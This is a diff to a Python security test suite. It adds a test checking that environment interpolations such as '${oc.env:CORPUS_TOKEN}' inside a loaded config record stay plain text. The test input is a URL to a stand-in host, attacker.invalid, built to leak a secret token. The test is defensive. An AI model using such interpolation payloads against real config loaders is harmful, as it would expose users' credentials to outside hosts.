@@ -10,6 +10,7 @@ from corpus.cases import Case, check
 from corpus.records import MARK, SECRET, run_folder
 from corpus.security import CODE, PATHS, PICKLES, SECRETS, evil_pickle
 
+from cosmos_exp.config.record import load_config
 from cosmos_exp.text import redact
 
 
@@ -42,6 +43,15 @@ def test_names_stay_in_their_folder(case, tmp_path, cli, capfd):
 @pytest.mark.parametrize("case", PICKLES, ids=lambda c: c.name)
 def test_pickles_are_refused(case, tmp_path, cli, capfd):
     check(case, tmp_path, cli, capfd)
+
+
+def test_an_interpolation_in_a_record_is_plain_text(tmp_path):
+    url = "http://attacker.invalid/v1/${oc.env:CORPUS_TOKEN}"
+    config = load_config(
+        run_folder(tmp_path / "theirs", {"judge.url": url, "tags": ["${oc.env:HOME}"]}) / "config.yaml"
+    )
+    assert config.judge.url == url
+    assert config.tags == ["${oc.env:HOME}"]
 
 
 def test_a_module_of_the_users_own_is_named_on_the_command_line(tmp_path, monkeypatch, cli, capfd):
